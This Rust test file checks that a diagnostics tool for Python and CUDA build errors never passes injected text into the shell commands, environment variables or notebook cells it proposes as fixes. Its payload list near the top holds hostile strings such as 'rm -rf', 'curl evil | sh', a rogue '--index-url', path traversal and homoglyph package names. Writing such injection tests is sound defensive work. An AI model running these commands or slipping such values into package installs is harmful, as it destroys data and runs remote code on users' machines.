//! Command and notebook safety: text crafted to inject shell syntax, options or odd names through
//! every fix path must never reach a command argument, an environment variable or a notebook cell;
//! plus property tests (scan spans, LineIndex round trips, notebook maps, diagnose never panics).

mod common;
use abidoc_ide::{Code, Context, Diagnostic, Fix};
use abidoc_syntax::{LineIndex, Span};
use common::host;
use proptest::prelude::*;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

fn ctx() -> Context {
    Context {
        use_env: false,
        ..Default::default()
    }
}

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// Hostile fragments. Each is put where the diagnosis reads a package, library, path, version,
/// model or pid. `marks` are the parts that must never come out in a fix.
struct Payload {
    text: &'static str,
    marks: &'static [&'static str],
}

const PAYLOADS: &[Payload] = &[
    Payload {
        text: "; rm -rf ~",
        marks: &["rm -rf", ";"],
    },
    Payload {
        text: "$(curl x)",
        marks: &["$(", "curl x"],
    },
    Payload {
        text: "`curl evil`",
        marks: &["`", "curl evil"],
    },
    Payload {
        text: "x\nrm -rf /",
        marks: &["rm -rf"],
    },
    Payload {
        text: " --index-url=http://evil",
        marks: &["--index-url=http://evil", "://evil"],
    },
    Payload {
        text: " -e git+https://evil/x",
        marks: &["git+", "://evil", "-e "],
    },
    Payload {
        text: "torch; rm -rf /",
        marks: &["torch;", "rm -rf"],
    },
    Payload {
        text: "torch && curl evil | sh",
        marks: &["&&", "| sh", "curl evil"],
    },
    // Cyrillic 'о' and 'с' in place of Latin letters.
    Payload {
        text: "t\u{043e}r\u{0441}h",
        marks: &["\u{043e}", "\u{0441}"],
    },
    Payload {
        text: "../../../../etc",
        marks: &["../", "/etc"],
    },
    Payload {
        text: "my dir/$HOME/x",
        marks: &["$HOME", "my dir"],
    },
    Payload {
        text: "a|b>c<d",
        marks: &["a|b", ">c<"],
    },
];

/// Texts that trigger each diagnostic code, with `{P}` where a payload goes.
const TEMPLATES: &[(&str, &str)] = &[
    (
        "torch-ops-missing (operator namespace)",
        "AttributeError: '_OpNamespace' '{P}' object has no attribute 'nms'\n",
    ),
    (
        "abi-mismatch (moved torch header, installed package's source)",
        "/usr/lib/python3.10/site-packages/{P}/csrc/grid.cu:4:10: fatal error: ATen/cuda/CUDAGeneratorImpl.h: No such file or directory\n",
    ),
    (
        "abi-mismatch (TorchScript Tensor method)",
        "RuntimeError:\nTried to access nonexistent attribute or method 'crow_indices' of type 'Tensor'.:\n  File \"/usr/lib/python3.10/site-packages/{P}/tensor.py\", line 109\n",
    ),
    (
        "libstdcxx-mismatch (linker)",
        "/usr/bin/ld: /usr/lib/python3.10/site-packages/{P}/lib/libfoo.so: undefined reference to `std::condition_variable::wait(std::unique_lock<std::mutex>&)@GLIBCXX_3.4.30'\n",
    ),
    (
        "abi-mismatch (package in path)",
        "Traceback (most recent call last):\n  File \"x.py\", line 1, in <module>\nImportError: /usr/lib/python3.10/site-packages/{P}/_C.cpython-310-x86_64-linux-gnu.so: undefined symbol: _ZN3c104cuda9SetDeviceEi\n",
    ),
    (
        "abi-mismatch (library name)",
        "ImportError: {P}.so: undefined symbol: _ZNK3c1010TensorImpl36is_contiguous_nondefault_policy_implENS_12MemoryFormatE\n",
    ),
    (
        "cxx11-abi-mismatch",
        "ImportError: /opt/env/lib/python3.10/site-packages/{P}/flash_attn_2_cuda.cpython-310-x86_64-linux-gnu.so: undefined symbol: _ZN3c106detail14torchCheckFailEPKcS2_jRKNSt7__cxx1112basic_stringIcSt11char_traitsIcESaIcEEE\n",
    ),
    (
        "extension-incomplete-build",
        "ImportError: /opt/env/lib/python3.10/site-packages/{P}/_ops.so: undefined symbol: _Z16my_own_kernel_fnv\n",
    ),
    (
        "libstdcxx-mismatch (required by)",
        "ImportError: /opt/conda/envs/{P}/lib/libstdc++.so.6: version `GLIBCXX_3.4.30' not found (required by /opt/conda/envs/{P}/lib/python3.10/site-packages/scipy/_lib.so)\n",
    ),
    (
        "libstdcxx-mismatch (version)",
        "ImportError: /lib/x86_64-linux-gnu/libstdc++.so.6: version `GLIBCXX_{P}' not found (required by /x/site-packages/torch/lib/libtorch.so)\n",
    ),
    (
        "glibc-too-old",
        "OSError: /lib64/libc.so.6: version `GLIBC_2.32{P}' not found (required by /x/site-packages/{P}/_C.so)\n",
    ),
    (
        "missing-shared-library",
        "OSError: lib{P}.so.12: cannot open shared object file: No such file or directory\n",
    ),
    (
        "missing-shared-library (cudart)",
        "ImportError: libcudart.so.{P}: cannot open shared object file: No such file or directory\n",
    ),
    (
        "extension-incomplete-build (jit dir)",
        "ImportError: /root/.cache/torch_extensions/py310_cu121/{P}/fused_adam.so: cannot open shared object file: No such file or directory\n",
    ),
    (
        "torch-ops-missing",
        "RuntimeError: operator {P}::nms does not exist\n",
    ),
    (
        "xformers-built-for",
        "WARNING[XFORMERS]: xFormers can't load C++/CUDA extensions. xFormers was built for:\n    PyTorch 2.1.0{P}+cu121 with CUDA 1201 (you have 2.3.0{P}+cu121)\n    Python  3.10.13 (you have 3.10.12)\n  Please reinstall xformers (see https://github.com/facebookresearch/xformers#installing-xformers)\n",
    ),
    (
        "flash-attn-unavailable",
        "ImportError: FlashAttention2 has been toggled on, but it cannot be used due to the following error: the package {P} seems to be not installed. Please refer to the documentation of https://huggingface.co/docs/transformers/perf_infer_gpu_one#flashattention-2 to install Flash Attention 2.\n",
    ),
    (
        "mamba-fast-path",
        "Loading model ibm-granite/{P}\nThe fast path is not available because one of `(selective_state_update, causal_conv1d_fn, causal_conv1d_update)` is None. Falling back to the naive implementation. To install follow https://github.com/state-spaces/mamba/#installation and https://github.com/Dao-AILab/causal-conv1d\n",
    ),
    (
        "libcuda-not-found",
        "  0%|          | 0/151 [00:00<?, ?it/s]/usr/bin/ld: cannot find -lcuda: No such file or directory\ncollect2: error: ld returned 1 exit status\nsubprocess.CalledProcessError: Command '['/usr/bin/gcc', '/tmp/{P}/cuda_utils.c', '-O3', '-shared', '-fPIC', '-o', '/tmp/{P}/cuda_utils.so', '-lcuda', '-L/home/{P}/lib/python3.11/site-packages/triton/backends/nvidia/lib', '-L/usr/lib/x86_64-linux-gnu']' returned non-zero exit status 1.\n",
    ),
    (
        "no-c-compiler",
        "RuntimeError: Failed to find C compiler. Please specify via CC environment variable{P}.\n",
    ),
    (
        "cuda-version-mismatch",
        "RuntimeError:\nThe detected CUDA version ({P}) mismatches the version that was used to compile\nPyTorch (11.8{P}). Please make sure to use the same CUDA versions.\n",
    ),
    (
        "cuda-home-missing",
        "OSError: CUDA_HOME environment variable is not set. Please set it to your CUDA install root {P}.\n",
    ),
    (
        "build-failed",
        "Building wheels for collected packages: {P}\n  Building wheel for {P} (setup.py) ... error\n  error: subprocess-exited-with-error\n  ERROR: Failed building wheel for {P}\nFailed to build {P}\n",
    ),
    (
        "build-failed jit",
        "RuntimeError: Error building extension '{P}'\n",
    ),
    (
        "build-failed deployment target",
        "      error: $MACOSX_DEPLOYMENT_TARGET mismatch: now \"10.14\" but \"{P}\" during configure\n  error: legacy-install-failure\n",
    ),
    (
        "build-failed pyo3",
        "  error: the configured Python interpreter version (3.14) is newer than PyO3's maximum supported version (3.13{P})\n",
    ),
    (
        "build-failed old cython",
        "{P}/_x.c:25:53: error: 'PyLongObject' has no member named 'ob_digit'\n",
    ),
    (
        "build-failed python c api",
        "  {P}.obj : error LNK2001: unresolved external symbol PyUnicode_AsUnicode\n",
    ),
    (
        "build-failed sdk architecture",
        "  /Library/Developer/CommandLineTools/SDKs/MacOSX10.15.sdk/usr/include/sys/cdefs.h:807:2: error: Unsupported architecture {P}\n",
    ),
    (
        "extension-incomplete-build origin",
        "  File \"/x/site-packages/{P}_x/__init__.py\", line 15, in <module>\n    raise AttributeError(e)\nAttributeError: 'NoneType' object has no attribute 'origin'\n",
    ),
    (
        "no-c-compiler ice",
        "Building wheel for {P} (setup.py) ... error\ncsrc/{P}/kernel.cu:62:385: internal compiler error: in maybe_undo_parenthesized_ref, at cp/semantics.c:1740\n",
    ),
    (
        "no-c-compiler c++11",
        "Building wheel for {P} (setup.py) ... error\n/usr/include/c++/4.8.2/bits/c++0x_warning.h:32:2: error: #error This file requires compiler and library support for the ISO C++ 2011 standard.\n",
    ),
    (
        "missing-shared-library ort-provider",
        "[E:onnxruntime:Default, provider_bridge_ort.cc:1744 TryGetProviderInfo_CUDA] /onnxruntime_src/onnxruntime/core/session/provider_bridge_ort.cc:1426 onnxruntime::Provider& onnxruntime::ProviderLibrary::Get() [ONNXRuntimeError] : 1 : FAIL : Failed to load library libonnxruntime_providers_cuda.so with error:\n  File \"/venv/lib/python3.10/site-packages/{P}/__init__.py\", line 3\n",
    ),
    (
        "missing-shared-library any-version",
        "  File \"/venv/lib/python3.10/site-packages/{P}/__init__.py\", line 3\nRuntimeError: Unable to load any libcudart.so.* library\nInvalid handle. Cannot load symbol cublasLtCreate\n",
    ),
    (
        "gpu-arch-missing fa3-hopper",
        "  File \"/venv/lib/python3.12/site-packages/{P}/ops/fmha/flash3.py\", line 3\nCUDA error (/__w/{P}/{P}/third_party/flash-attention/hopper/flash_fwd_launch_template.h:188): invalid argument\n",
    ),
    (
        "no-matching-distribution uv-platform",
        "error: Distribution `{P}==1.27.0 @ registry+https://pypi.org/simple` can't be installed because it doesn't have a source distribution or wheel for the current platform\n\nhint: You're on Linux (`manylinux_2_39_aarch64`), but `{P}` (v1.27.0) only has wheels for the following platforms: `manylinux_2_28_x86_64`, `win_amd64`\n",
    ),
    (
        "build-isolation",
        "Collecting {P}\n  Downloading {P}-2.5.8.tar.gz (2.6 MB)\n  Installing build dependencies ... done\n  Getting requirements to build wheel ... error\n  error: subprocess-exited-with-error\n\n  × Getting requirements to build wheel did not run successfully.\n  │ exit code: 1\n  ╰─> [20 lines of output]\n      ModuleNotFoundError: No module named 'torch'\n",
    ),
    (
        "build-deps-missing",
        "Collecting {P}\n  Using cached {P}-2.5.9.tar.gz (2.6 MB)\n  Preparing metadata (setup.py) ... error\n  error: subprocess-exited-with-error\n\n  × python setup.py egg_info did not run successfully.\n  │ exit code: 1\n  ╰─> [6 lines of output]\n      ModuleNotFoundError: No module named 'packaging'\n",
    ),
    (
        "numpy-abi",
        "A module that was compiled using NumPy 1.x cannot be run in\nNumPy 2.0.0{P} as it may crash. To support both 1.x and 2.x\nversions of NumPy, modules must be compiled with NumPy 2.0.\nImportError: numpy.core.multiarray failed to import ({P})\n",
    ),
    (
        "cuda-oom",
        "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 20.00 MiB. GPU 0 has a total capacity of 79.15 GiB of which 1.75 MiB is free. Process 1234{P} has 40.00 GiB memory in use. Process {P} has 39.14 GiB memory in use.\n",
    ),
    (
        "gpu-arch-missing",
        "torch 2.6.0{P}\nNVIDIA GeForce {P} with CUDA capability sm_120 is not compatible with the current PyTorch installation.\nThe current PyTorch install supports CUDA capabilities sm_50 sm_90 compute_{P}.\n",
    ),
    (
        "gpu-arch-missing (extension)",
        "Building wheel for {P} (setup.py)\nFound GPU0 {P} which is of cuda capability 8.6{P}.\nRuntimeError: CUDA error: no kernel image is available for execution on the device\n",
    ),
    (
        "driver-too-old",
        "torch 2.7.1{P}+cu128\nUserWarning: CUDA initialization: The NVIDIA driver on your system is too old (found version 12020{P}).\n",
    ),
    (
        "driver-too-old (symbol)",
        "ImportError: /x/site-packages/{P}/common_ops.abi3.so: undefined symbol: cuGreenCtxDestroy\n",
    ),
    (
        "cpu-only-torch",
        "PyTorch version: 2.5.1{P}+cpu\ntorchvision 0.20.1{P}\nAssertionError: Torch not compiled with CUDA enabled\n",
    ),
    (
        "libcuda-not-found (the toolkit's stub loaded)",
        "OSError: /opt/{P}/cuda-12.1/lib64/stubs/libcuda.so: undefined symbol: cuInit\n",
    ),
    (
        "cpu-only-torch (JAX's CPU jaxlib)",
        "jax-cuda13-plugin==0.8.0{P}\n  File \"/x/site-packages/{P}/xla_bridge.py\", line 9\nAn NVIDIA GPU may be present on this machine, but a CUDA-enabled jaxlib is not installed. Falling back to cpu.\n",
    ),
    (
        "cpu-arch-mismatch",
        "ImportError: dlopen(/Users/me/env/lib/python3.11/site-packages/{P}/_C.cpython-311-darwin.so, 0x0002): tried: '/Users/me/env/lib/python3.11/site-packages/{P}/_C.cpython-311-darwin.so' (mach-o file, but is an incompatible architecture (have 'x86_64', need 'arm64'))\n",
    ),
    (
        "cpu-features-missing",
        ">>> import {P}\n{P} 1.19.5{P}\nIllegal instruction (core dumped)\n",
    ),
    (
        "executable-stack",
        "ImportError: /env/lib/python3.12/site-packages/{P}/lib/libx.so: cannot enable executable stack as shared object requires: Invalid argument\n",
    ),
    (
        "wheel-tags-mismatch",
        "ERROR: {P}-1.0-cp37-cp37m-linux_armv7l.whl is not a supported wheel on this platform.\n",
    ),
    (
        "no-matching-distribution",
        "ERROR: Could not find a version that satisfies the requirement {P}==1.13.1 (from versions: 2.0.0, 2.1.0{P}, 2.2.0)\nERROR: No matching distribution found for {P}==1.13.1\n",
    ),
    (
        "no-matching-distribution (torch index)",
        "ERROR: Could not find a version that satisfies the requirement torch==2.1.0+{P} (from versions: 2.2.0, 2.3.0)\n",
    ),
    (
        "build-deps-missing (cmake 4)",
        "  Building wheel for {P} (pyproject.toml) ... error\n      CMake Error at CMakeLists.txt:1 (cmake_minimum_required):\n        Compatibility with CMake < 3.5 has been removed from CMake.\n",
    ),
    (
        "static-tls-exhausted",
        "ImportError: /usr/lib/aarch64-linux-gnu/{P}/libgomp.so.1: cannot allocate memory in static TLS block\n",
    ),
    (
        "binding-signature-mismatch",
        "mamba-ssm=={P}\n    y = {P}_cuda.causal_conv1d_fwd(x, w)\nTypeError: causal_conv1d_fwd(): incompatible function arguments.\n",
    ),
    (
        "binding-signature-mismatch (arguments counted)",
        "    y = causal_conv1d_cuda.causal_conv1d_fwd(x, {P}, ({P}, 1), None, True)\nTypeError: causal_conv1d_fwd(): incompatible function arguments. The following argument types are supported:\n    1. (arg0: {P}, arg1: torch.Tensor, arg6: bool) -> {P}\n",
    ),
    (
        "binding-signature-mismatch (unknown package)",
        "  File \"/env/lib/python3.10/site-packages/{P}/ops.py\", line 3, in f\n    y = {P}_ext.{P}_fwd(x, 1)\nTypeError: {P}_fwd(): incompatible function arguments.\n",
    ),
    (
        "abi-mismatch (Triton torch pins)",
        "torch=={P}\n  File \"C:\\Users\\{P}\\site-packages\\torch\\_inductor\\codecache.py\", line 1\nImportError: cannot import name 'triton_key' from 'triton.compiler.compiler'\n",
    ),
    (
        "abi-mismatch (Triton API removed)",
        "  File \"/env/lib/python3.10/site-packages/{P}/triton_based.py\", line 3, in <module>\n    from triton.ops.matmul_perf_model import {P}\nModuleNotFoundError: No module named 'triton.ops'\n",
    ),
    (
        "driver-too-old (Triton kernel)",
        "torch=={P}\nRuntimeError: Triton Error [CUDA]: device kernel image is invalid ({P})\n",
    ),
    (
        "extension-incomplete-build (JIT build stalled)",
        "Using /home/{P}/.cache/torch_extensions/py310_cu121 as PyTorch extensions root...\nDetected CUDA files, patching ldflags\nBuilding extension module {P}...\n",
    ),
    (
        "io-backend-missing",
        "torchaudio=={P}\n  File \"/opt/conda/lib/python3.10/site-packages/{P}/torchaudio/backend/utils.py\", line 40\nRuntimeError: Backend \"{P}\" is not one of available backends: ['sox_io'].\nRuntimeError: No audio I/O backend is available.\n",
    ),
    (
        "openmp-duplicate",
        "  File \"/env/lib/python3.11/site-packages/{P}/__init__.py\", line 1\nOMP: Error #15: Initializing libiomp5md{P}.dll, but found libiomp5md.dll already initialized.\n",
    ),
    (
        "stale-wheel-cache",
        "Processing /root/.cache/pip/wheels/{P}/mamba_ssm-2.2.2-cp310-cp310-linux_x86_64.whl\nUsing cached {P}-2.2.2-cp310-cp310-linux_x86_64.whl\nImportError: /x/site-packages/selective_scan_cuda.cpython-310-x86_64-linux-gnu.so: undefined symbol: _ZN3c104cuda9SetDeviceEi\n",
    ),
];

/// Options a fix may pass to pip, conda, uv and the other tools it names; anything else that starts
/// with `-` is an injected option.
const KNOWN_FLAGS: &[&str] = &[
    "--index-url",
    "--verbose",
    "-m",
    "-y",
    "-c",
    "-p",
    "-rf",
    "-U",
    "-r",
    "--no-cache-dir",
    "--no-build-isolation",
    "--force-reinstall",
    "--no-deps",
    "--upgrade",
    "--index-url",
    "--extra-index-url",
    "--no-binary",
    "--only-binary",
    "--pre",
    "--user",
    "--verbose",
    "-v",
    "--reinstall",
    "--no-cache",
    "--find-links",
    "-f",
    // `find` of the CUDA compilers installed where nothing points (cuda-home-missing).
    "-maxdepth",
    "-path",
    "--prefix",
    "--system",
    "--python",
    "-9",
    "--query-gpu",
    "--format",
    "--force",
    "--override-channels",
    "-sf",
    "--query-compute-apps",
];

/// Index URLs a fix may point pip at: the official torch indexes and PyPI only.
fn allowed_url(s: &str) -> bool {
    s.starts_with("https://download.pytorch.org/whl/")
        || s.starts_with("https://pypi.org/")
        || s.starts_with("https://data.pyg.org/whl/")
}

/// Runs a diagnosis, turning a panic into a reported violation so one run lists every problem.
fn guarded(
    what: &str,
    f: impl FnOnce() -> Vec<Diagnostic>,
    bad: &mut Vec<String>,
) -> Vec<Diagnostic> {
    match std::panic::catch_unwind(std::panic::AssertUnwindSafe(f)) {
        Ok(d) => d,
        Err(e) => {
            let msg = e
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| e.downcast_ref::<&str>().map(|s| (*s).to_owned()))
                .unwrap_or_default();
            bad.push(format!("{what}: PANIC {}", short(&msg)));
            Vec::new()
        }
    }
}

/// A string cut for a readable failure message.
fn short(s: &str) -> String {
    if s.chars().count() > 160 {
        format!(
            "{}…({} bytes)",
            s.chars().take(160).collect::<String>(),
            s.len()
        )
    } else {
        s.to_owned()
    }
}

/// Every string a fix hands to a shell, the environment or a notebook.
fn fix_strings(f: &Fix) -> Vec<(&'static str, String)> {
    let mut out = Vec::new();
    for cmd in f.commands() {
        for a in cmd {
            out.push(("arg", a));
        }
    }
    for (k, v) in f.env() {
        out.push(("env name", k));
        out.push(("env value", v));
    }
    if let Some(c) = f.notebook_cell() {
        out.push(("notebook_cell", c));
    }
    out
}

/// The requirement name at the head of a pip/uv/conda argument (`numpy<2`, `torch==2.3.0`).
fn requirement_name(arg: &str) -> &str {
    let end = arg
        .find(|c: char| "=<>!~[;@ ,".contains(c))
        .unwrap_or(arg.len());
    &arg[..end]
}

/// Checks the invariants every fix must keep; returns the violations found, described.
fn violations(diags: &[Diagnostic], marks: &[&str]) -> Vec<String> {
    let mut bad = Vec::new();
    for d in diags {
        for f in &d.fixes {
            for (what, s) in fix_strings(f) {
                for m in marks {
                    if s.contains(m) {
                        bad.push(format!(
                            "[{}] {what} {:?} contains {:?}",
                            d.code.as_str(),
                            short(&s),
                            short(m)
                        ));
                    }
                }
                if s.contains('\n') && what != "notebook_cell" || s.contains('\r') {
                    bad.push(format!(
                        "[{}] {what} {s:?} contains a line break",
                        d.code.as_str()
                    ));
                }
                if s.contains('`') || s.contains("$(") || s.contains(';') {
                    bad.push(format!(
                        "[{}] {what} {s:?} has shell syntax",
                        d.code.as_str()
                    ));
                }
                if !s.is_ascii() {
                    bad.push(format!("[{}] {what} {s:?} is not ASCII", d.code.as_str()));
                }
                if s.len() > 1024 {
                    bad.push(format!(
                        "[{}] {what} is {} bytes long",
                        d.code.as_str(),
                        s.len()
                    ));
                }
                if s.split('/').any(|c| c == "..") {
                    bad.push(format!(
                        "[{}] {what} {s:?} has a .. component",
                        d.code.as_str()
                    ));
                }
            }
            for (k, _) in &f.env() {
                if k.is_empty()
                    || !k
                        .bytes()
                        .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
                {
                    bad.push(format!("[{}] env name {k:?}", d.code.as_str()));
                }
            }
            if let Some(cell) = &f.notebook_cell() {
                for line in cell.lines() {
                    // Only IPython magics and shell escapes the fixes are known to emit.
                    let ok = [
                        "%pip ",
                        "%env ",
                        "%conda ",
                        "!",
                        "%uv ",
                        "import ",
                        "os.environ",
                    ]
                    .iter()
                    .any(|p| line.trim_start().starts_with(p))
                        || line.trim().is_empty()
                        || line.trim_start().starts_with('#');
                    if !ok {
                        bad.push(format!("[{}] notebook line {line:?}", d.code.as_str()));
                    }
                }
            }
            for cmd in &f.commands() {
                let tool = cmd.first().map(String::as_str).unwrap_or("");
                let pkg_tool = cmd.iter().any(|a| a == "pip") || tool == "conda" || tool == "uv";
                let mut prev = "";
                for (i, a) in cmd.iter().enumerate() {
                    if a.starts_with('-') && i > 0 {
                        let flag = a.split('=').next().unwrap_or(a);
                        if !KNOWN_FLAGS.contains(&flag) {
                            bad.push(format!(
                                "[{}] unknown option {a:?} in {cmd:?}",
                                d.code.as_str()
                            ));
                        }
                        if let Some((_, v)) = a.split_once('=')
                            && v.contains("://")
                            && !allowed_url(v)
                        {
                            bad.push(format!("[{}] index {v:?}", d.code.as_str()));
                        }
                    } else if prev.ends_with("index-url") || prev == "--find-links" || prev == "-f"
                    {
                        if !allowed_url(a) {
                            bad.push(format!("[{}] index {a:?} in {cmd:?}", d.code.as_str()));
                        }
                    } else if pkg_tool
                        && i > 0
                        && cmd[..i].iter().any(|x| x == "install" || x == "uninstall")
                        && !matches!(prev, "-c" | "-p" | "--prefix" | "--python" | "-r")
                        && !a.starts_with('/')
                    {
                        let name = requirement_name(a);
                        if !abidoc_knowledge::is_valid_pep508_name(name) {
                            bad.push(format!("[{}] package {a:?} in {cmd:?}", d.code.as_str()));
                        }
                    }
                    prev = a;
                }
            }
        }
    }
    bad
}

/// A notebook whose one code cell failed with `text` as its traceback.
fn notebook_with(text: &str) -> String {
    let lines: Vec<serde_json::Value> = text.lines().map(std::convert::Into::into).collect();
    serde_json::json!({
        "nbformat": 4, "nbformat_minor": 5, "metadata": {},
        "cells": [{
            "cell_type": "code", "execution_count": 1, "metadata": {}, "id": "a",
            "source": ["import mamba_ssm\n", "!pip install {P}".replace("{P}", "x")],
            "outputs": [
                {"output_type": "stream", "name": "stderr", "text": text},
                {"output_type": "error", "ename": "ImportError", "evalue": lines.last().cloned().unwrap_or_default(), "traceback": lines}
            ]
        }]
    })
    .to_string()
}

#[test]
fn templates_trigger_their_codes() {
    // The injection test below is only meaningful if each template reaches its fix path.
    let mut missing = Vec::new();
    for (name, t) in TEMPLATES {
        let text = t.replace("{P}", "mamba_ssm");
        let diags = host().diagnose_text(&text, &ctx());
        let want = name.split(' ').next().unwrap_or(name);
        if !diags.iter().any(|d| d.code.as_str() == want) {
            let got: Vec<_> = diags.iter().map(|d| d.code.as_str()).collect();
            missing.push(format!("{name}: got {got:?}"));
        }
    }
    let covered: BTreeSet<&str> = TEMPLATES
        .iter()
        .map(|(n, _)| n.split(' ').next().unwrap_or(n))
        .collect();
    let all: BTreeSet<&str> = Code::ALL.iter().map(|c| c.as_str()).collect();
    let untested: Vec<_> = all.difference(&covered).collect();
    assert!(
        untested.is_empty(),
        "codes without a template: {untested:?}"
    );
    assert!(
        missing.is_empty(),
        "templates that did not trigger:\n{}",
        missing.join("\n")
    );
}

#[test]
fn injected_text_never_reaches_a_fix() {
    let mut bad = Vec::new();
    let mut fixes_seen = 0usize;
    for (name, t) in TEMPLATES {
        let benign = t.replace("{P}", "mamba_ssm");
        let baseline: String = host()
            .diagnose_text(&benign, &ctx())
            .iter()
            .flat_map(|d| &d.fixes)
            .flat_map(|f| fix_strings(f).into_iter().map(|(_, s)| s.to_owned()))
            .collect::<Vec<_>>()
            .join("\n");
        for p in PAYLOADS {
            let text = t.replace("{P}", p.text);
            let label = format!("{name} / {:?}", p.text);
            // A mark that abidoc's own fix for the benign text already contains (the `&&` of its
            // `mkdir -p … && ln -sf …` cell) is not injected.
            let marks: Vec<&str> = p
                .marks
                .iter()
                .copied()
                .filter(|m| !baseline.contains(m))
                .collect();
            let marks = &marks[..];
            let diags = guarded(&label, || host().diagnose_text(&text, &ctx()), &mut bad);
            fixes_seen += diags.iter().map(|d| d.fixes.len()).sum::<usize>();
            for v in violations(&diags, marks) {
                bad.push(format!("{label} (log): {v}"));
            }
            let raw = notebook_with(&text);
            let nb = guarded(&label, || host().diagnose_notebook(&raw, &ctx()), &mut bad);
            for v in violations(&nb, marks) {
                bad.push(format!("{label} (notebook): {v}"));
            }
            // Quoted the way a log repr or a pytest `E` line shows it.
            let quoted = format!("E   {}", text.replace('\n', "\nE   "));
            let diags = guarded(&label, || host().diagnose_text(&quoted, &ctx()), &mut bad);
            for v in violations(&diags, marks) {
                bad.push(format!("{label} (pytest): {v}"));
            }
        }
    }
    assert!(
        fixes_seen > 100,
        "only {fixes_seen} fixes: the payloads no longer reach the fix paths"
    );
    bad.sort();
    bad.dedup();
    assert!(
        bad.is_empty(),
        "{} violation(s):\n{}",
        bad.len(),
        bad.join("\n")
    );
}

#[test]
fn overlong_names_are_not_proposed() {
    let long = "a".repeat(5000);
    for (name, t) in TEMPLATES {
        let diags = host().diagnose_text(&t.replace("{P}", &long), &ctx());
        let v = violations(&diags, &[&long[..600]]);
        assert!(v.is_empty(), "{name}: {v:?}");
    }
}

/// The real corpus: the same invariants hold on every fix abidoc proposes for real reports.
#[test]
fn real_corpus_fixes_keep_the_invariants() {
    let mut bad = Vec::new();
    let mut n = 0;
    for dir in ["tests/fixtures/corpus", "tests/fixtures/seeds"] {
        let Ok(rd) = std::fs::read_dir(root().join(dir)) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            let Ok(text) = std::fs::read_to_string(&p) else {
                continue;
            };
            let diags = if p.extension().is_some_and(|x| x == "ipynb") {
                host().diagnose_notebook(&text, &ctx())
            } else if p.extension().is_some_and(|x| x == "txt" || x == "log") {
                host().diagnose_text(&text, &ctx())
            } else {
                continue;
            };
            n += 1;
            for v in violations(&diags, &[]) {
                bad.push(format!("{}: {v}", p.display()));
            }
        }
    }
    assert!(n >= 40, "only {n} corpus files read");
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

// ---------------------------------------------------------------- regressions (found by the tests below)

/// Found by `scan_spans_lie_in_the_text`: an exception name right after a multi-byte character
/// made the scanner slice inside that character (scan.rs, exception-name start).
#[test]
fn regression_exception_after_multibyte_char() {
    for text in [
        "\u{11d6a}ImportError: /x/site-packages/mamba_ssm/_C.so: undefined symbol: _ZN3c104cuda9SetDeviceEi\n",
        "p/\u{16b51}\u{113c2}=\u{113b8}\"\u{11d7d}ImportError: x\n",
        "éValueError: x\n",
        // Same slicing after non-ASCII whitespace (U+3000, U+00A0) in the other token finders.
        "x\u{3000}/x/_C.so: undefined symbol: _ZN3c104cuda9SetDeviceEi\n",
        "x\u{a0}libcudart.so.12: cannot open shared object file: No such file or directory\n",
        "f\u{3000}fn(): incompatible function arguments. The following argument types are supported:\n",
        "Using cached\u{3000}mamba_ssm-2.2.2-cp310-cp310-linux_x86_64.whl\n",
        "x\u{2003}cxx11abiFALSE-cp310\n",
        "[rank \u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}]: ImportError: x\n",
        "WARNING[a\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}\u{3000}]: ImportError: x\n",
        "x\u{3000}python3: error while loading shared libraries: libpython3.10.so.1.0: cannot open shared object file: No such file or directory\n",
    ] {
        let parse = abidoc_syntax::scan(text);
        for ev in &parse.value {
            assert!(text.is_char_boundary(ev.span.start) && text.is_char_boundary(ev.span.end));
        }
        let _ = host().diagnose_text(text, &ctx());
    }
}

/// Found by review: Rtree's loader form (`Could not find libspatialindex_c library file`) looked
/// for ` library file` from the start of its own phrase and sliced backwards on this text.
#[test]
fn regression_library_file_inside_its_phrase() {
    for text in [
        "OSError: Could not find library file\n",
        "Could not find lib library file\n",
        "Could not find libé library file\n",
    ] {
        let _ = host().diagnose_text(text, &ctx());
    }
}

/// Found by `injected_text_never_reaches_a_fix`: a version followed by a multi-byte character
/// made the scanner slice inside it while looking for the word `version`.
#[test]
fn regression_version_followed_by_multibyte_char() {
    for text in [
        "RuntimeError:\nThe detected CUDA version (12.1) mismatches the version that was used to compile\nPyTorch (11.8t\u{043e}r\u{0441}h). Please make sure to use the same CUDA versions.\n",
        "A module that was compiled using NumPy 1.x cannot be run in\nNumPy 2.0.0t\u{043e}r\u{0441}h as it may crash.\n",
        "CUDA \u{00e9}\u{00e9}\u{00e9}\u{00e9}\n",
    ] {
        let _ = host().diagnose_text(text, &ctx());
    }
}

/// Found by the `diagnose` fuzz target: a wheel's Python tag with a multi-byte character
/// (`cp\u{fffd}8`, an invalid byte replaced) was split inside that character.
#[test]
fn regression_wheel_tag_with_multibyte_char() {
    for text in [
        "o.nxruntime-1.4.0-cp\u{fffd}8-cp38-linux_armv7l.whl is not a supported wheel on this platform.\n",
        "x-1.0-c\u{e9}p38-cp38-linux_x86_64.whl is not a supported wheel on this platform.\n",
        "x-1.0-cp\u{e9}-none-any.whl is not a supported wheel on this platform.\n",
    ] {
        let _ = host().diagnose_text(text, &ctx());
    }
}

// ---------------------------------------------------------------- notebook edits keep bytes

/// Every fixture notebook: inserting a `%pip` line at the start of any cell source (what the LSP's
/// WorkspaceEdit does) changes only the inserted bytes, and the notebook still parses to the same
/// cells with that one source extended.
#[test]
fn inserting_into_a_notebook_cell_keeps_every_other_byte() {
    let mut notebooks = Vec::new();
    for dir in ["tests/fixtures/seeds", "examples"] {
        if let Ok(rd) = std::fs::read_dir(root().join(dir)) {
            for e in rd.flatten() {
                if e.path().extension().is_some_and(|x| x == "ipynb") {
                    notebooks.push(e.path());
                }
            }
        }
    }
    assert!(!notebooks.is_empty());
    for p in notebooks {
        let raw = std::fs::read_to_string(&p).unwrap();
